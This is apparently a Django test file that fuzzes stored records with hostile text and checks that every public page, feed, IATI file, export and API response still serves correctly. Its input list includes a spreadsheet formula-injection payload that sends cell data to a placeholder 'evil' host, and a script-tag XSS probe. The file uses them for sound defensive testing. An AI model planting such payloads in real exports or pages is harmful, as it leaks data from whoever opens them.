"""Stored-data fuzz test (issue 18, item 2): hostile values in whole records, then every public
page, feed, calendar, IATI file, export and API answer for them: no 500, valid XML.

Hypothesis fills each model's text fields (one strategy per model) with control characters,
NUL, lone surrogates, bidi overrides and formula prefixes, and its dates with the bounds; the
table's known bad inputs are explicit examples. Records are saved as the forms save them, so the
normaliser (core/text.py) runs; on PostgreSQL, which refuses NUL in text, that is what keeps a
NUL out.
"""

import datetime
import itertools

import lxml.etree
import pytest
from django.core.cache import cache
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from core.models import EARLIEST_DATE, LATEST_DATE
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    "\x0b",  # vertical tab: a Word paste
    "\x0c",
    "\x00",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\ud800",  # a lone surrogate
    "\udfff",
    "\u202e",  # right-to-left override
    "\u2066",
    "\ufeff",
    "\r\n",
    "\t",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "]]>",
    "&amp;",
    "Kosovo*",
]
piece = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=8),
)
# Short enough for any CharField (30 characters, the shortest), even after normalising.
text = st.lists(piece, max_size=4).map(lambda parts: ("T" + "".join(parts))[:30])
long_text = st.lists(piece, max_size=12).map(lambda parts: "T" + "".join(parts))
date = st.one_of(
    st.sampled_from([EARLIEST_DATE, LATEST_DATE]),
    st.dates(min_value=EARLIEST_DATE, max_value=LATEST_DATE),
)

# One strategy per model: the values its text and date fields get.
programme = st.fixed_dictionaries({"name": text, "acronym": text, "description": long_text})
project = st.fixed_dictionaries(
    {
        "title": text,
        "phase": text,
        "summary": long_text,
        "description": long_text,
        "target_groups": long_text,
        "end_beneficiaries": long_text,
        "key_standards": long_text,
    }
)
activity = st.fixed_dictionaries(
    {
        "title": text,
        "venue": text,
        "city": text,
        "description": long_text,
        "facilitators": long_text,
        "start_date": date,
    }
)
# A story dated in the future is not out yet (its page is a 404): dates up to today.
past = st.one_of(st.just(EARLIEST_DATE), st.dates(EARLIEST_DATE, timezone.localdate()))
news = st.fixed_dictionaries(
    {"title": text, "dateline": text, "lead": long_text, "body": long_text, "published_on": past}
)
institution = st.fixed_dictionaries({"name": text, "acronym": text, "description": long_text})
indicator = st.fixed_dictionaries({"name": text, "unit": text, "means_of_verification": long_text})
note = st.fixed_dictionaries({"note": text})

WORD_PASTE = {"title": "Pasted from Word\x0b title"}
PROGRAMMES = itertools.count()
FORMULA = {"title": '=HYPERLINK("http://evil/?x="&A1,"click")'}


def build(data):
    """The whole record graph, published, from the drawn values."""
    funder = factories.InstitutionFactory(**data["institution"])
    programme_data = data["programme"]
    # Programme names are unique: each example's gets a number.
    # ProgrammeFactory looks the name up (get_or_create) before the normaliser runs: a lone
    # surrogate or a NUL (PostgreSQL) would fail in that test-only query, so the name has none.
    name = programme_data.get("name", "T").encode("utf-8", "ignore").decode().replace("\x00", "")
    programme_data["name"] = f"{name} {next(PROGRAMMES)}"
    proj = factories.ProjectFactory(
        programme=factories.ProgrammeFactory(**programme_data), **data["project"]
    )
    factories.FundingFactory(project=proj, funder=funder, **data["funding"])
    factories.PartnerFactory(project=proj, institution=funder, **data["partner"])
    line = factories.ObjectiveFactory(project=proj)
    measure = factories.IndicatorFactory(objective=line, **data["indicator"])
    factories.IndicatorValueFactory(indicator=measure, **data["value"])
    start = data["activity"].pop("start_date")
    act = factories.ActivityFactory(
        project=proj,
        start_date=start,
        end_date=min(start + datetime.timedelta(1), LATEST_DATE),
        **data["activity"],
    )
    act.institutions.add(funder)
    story = factories.NewsItemFactory(project=proj, activity=act, **data["news"])
    return proj, act, story, funder


def urls(proj, act, story, funder):
    return {
        "html": [
            "/",
            "/projects/",
            f"/projects/{proj.slug}/",
            "/activities/",
            f"/activities/{act.pk}/",
            "/news/",
            f"/news/{story.slug}/",
            f"/stakeholders/{funder.slug}/",
            f"/programmes/{proj.programme.slug}/",
            "/search/?q=T",
            f"/fr/projects/{proj.slug}/",
        ],
        "xml": [
            "/news/feed/",
            f"/projects/{proj.slug}/feed/",
            f"/projects/{proj.slug}/iati.xml",
            "/iati/activities.xml",
            "/iati/organisation.xml",
        ],
        "staff": ["/activities/export.csv", "/activities/export.xlsx"],
        "other": [
            "/activities/calendar.ics",
            f"/projects/{proj.slug}/calendar.ics",
            f"/api/projects/{proj.slug}/",
            f"/api/activities/{act.pk}/",
            f"/api/news/{story.slug}/",
            "/api/institutions/",
            f"/api/programmes/{proj.programme.slug}/",
        ],
    }


def assert_served(proj, act, story, funder):
    """Every address answers 200 (the exports to a manager, the rest to a visitor)."""
    visitor, staff = Client(), Client()
    staff.force_login(factories.UserFactory(username="fuzz-manager", is_staff=True))
    for kind, addresses in urls(proj, act, story, funder).items():
        for url in addresses:
            response = (staff if kind == "staff" else visitor).get(url)
            assert response.status_code == 200, url
            content = (
                b"".join(response.streaming_content) if response.streaming else response.content
            )
            if kind == "xml":
                lxml.etree.fromstring(content)  # raises on XML that is not well formed


@settings(
    max_examples=12,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    st.fixed_dictionaries(
        {
            "programme": programme,
            "project": project,
            "activity": activity,
            "news": news,
            "institution": institution,
            "indicator": indicator,
            "value": note,
            "funding": note,
            "partner": note,
        }
    )
)
@example(
    {
        "programme": {},
        "project": {"description": "A description\x0b pasted from Word"},
        "activity": {**FORMULA, "start_date": LATEST_DATE},
        "news": WORD_PASTE,
        "institution": {"name": "NUL\x00 and \ud800 lone"},
        "indicator": {},
        "value": {},
        "funding": {},
        "partner": {},
    }
)
def test_hostile_stored_values_break_no_public_page_feed_or_file(data):
    cache.clear()  # a test's transaction never commits, so saves bump no cached page
    proj, act, story, funder = build({key: dict(value) for key, value in data.items()})
    assert "\x00" not in funder.name and "\x0b" not in story.title
    assert_served(proj, act, story, funder)


def test_a_two_megabyte_text_is_served_whole_and_safe():
    body = ("Pasted\x0b from Word \u202e" * 100_000)[: 2 * 1024 * 1024]
    proj, act, story, funder = build(
        {
            "programme": {},
            "project": {"description": body},
            "activity": {"description": body, "start_date": EARLIEST_DATE},
            "news": {"body": body},
            "institution": {},
            "indicator": {},
            "value": {},
            "funding": {},
            "partner": {},
        }
    )
    assert_served(proj, act, story, funder)
    assert "\x0b" not in Client().get(f"/projects/{proj.slug}/").content.decode()
